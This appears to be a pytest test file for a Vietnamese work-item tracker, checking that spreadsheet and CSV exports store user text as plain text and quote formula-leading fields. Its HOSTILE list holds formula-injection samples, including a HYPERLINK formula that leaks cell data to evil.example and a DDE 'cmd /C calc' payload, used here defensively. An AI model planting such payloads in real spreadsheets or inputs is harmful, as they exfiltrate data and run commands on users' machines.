"""Formula injection: user text goes out as text cells (xlsx) or quoted fields (CSV), and comes back unchanged."""

import csv
import datetime as dt
import io

import openpyxl
from sqlalchemy import select

from tests.factories import make_user
from tests.item_factories import make_item
from tracker.cells import csv_bytes, csv_text
from tracker.db import session_scope
from tracker.models import Plan, Role, WorkItem
from tracker.permissions import Actor
from tracker.services import dashboard, imports, reports
from tracker.services.dashboard import Filters
from tracker.services.excel_template import SHEET
from tracker.services.work_item_lists import ItemFilter
from tracker.services.work_items import source_key

HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1;"Bấm vào đây")', "+84 912 345 678", "-5 bài",
           "@SUM(1+1)*cmd|' /C calc'!A0", "#N/A"]


def _text_cells(blob: bytes) -> dict[str, str]:
    """Every cell holding a hostile text, by its value: its data type ('s' text, 'f' formula, 'e' error)."""
    found = {}
    for ws in openpyxl.load_workbook(io.BytesIO(blob)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(h in cell.value for h in HOSTILE):
                    found[cell.value] = cell.data_type
    return found


def test_the_work_item_export_writes_hostile_text_as_text_and_reimports_it_unchanged(engine):
    with session_scope(engine) as s:
        admin = Actor.of(make_user(s, "van.phong", Role.ADMIN))
        plan_id = s.scalars(select(Plan.id).where(Plan.code == "184/QĐ-BNV")).one()
        for text in HOSTILE:
            item = make_item(s, title=text)
            item.channel_text, item.note = text, text
            item.source_key = source_key(plan_id=plan_id, task_number=2, title=text, lead_unit_code="VU-TCBC")
    with session_scope(engine) as s:
        exported = imports.export_items(s, actor=admin, filters=ItemFilter(plan_id=plan_id))
    cells = _text_cells(exported)
    assert set(HOSTILE) <= set(cells) and set(cells.values()) == {"s"}
    with session_scope(engine) as s:
        again = imports.import_items(s, actor=admin, plan_id=plan_id, data=exported)
    assert (again.created, again.updated, len(again.unchanged)) == ([], [], len(HOSTILE))
    with session_scope(engine) as s:
        assert sorted(s.scalars(select(WorkItem.title))) == sorted(HOSTILE)


def test_the_dashboard_workbook_writes_a_blocked_reason_as_text(engine):
    with session_scope(engine) as s:
        for text in HOSTILE:
            item = make_item(s, title=text, blocked=True)
            item.blocked_reason = text
        plan_id = s.scalars(select(Plan.id).where(Plan.code == "184/QĐ-BNV")).one()
        leader = Actor(user_id=1, username="lanh.dao", role=Role.LEADER)
        board = dashboard.build(s, actor=leader, filters=Filters(plan_id=plan_id), today=dt.date(2024, 8, 1))
        blob = reports.excel_workbook(s, board=board)
    cells = _text_cells(blob)
    assert set(HOSTILE) <= set(cells) and set(cells.values()) == {"s"}


def test_csv_fields_starting_a_formula_get_a_quote():
    assert [csv_text(v) for v in ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "Bình thường", 5]] == \
        ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "Bình thường", 5]
    blob = csv_bytes(["Đơn vị", "Nội dung"], [("Vụ A", "=cmd|' /C calc'!A0"), ("Vụ B", None)])
    assert blob.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(blob.decode("utf-8-sig"))))
    assert rows == [["Đơn vị", "Nội dung"], ["Vụ A", "'=cmd|' /C calc'!A0"], ["Vụ B", ""]]
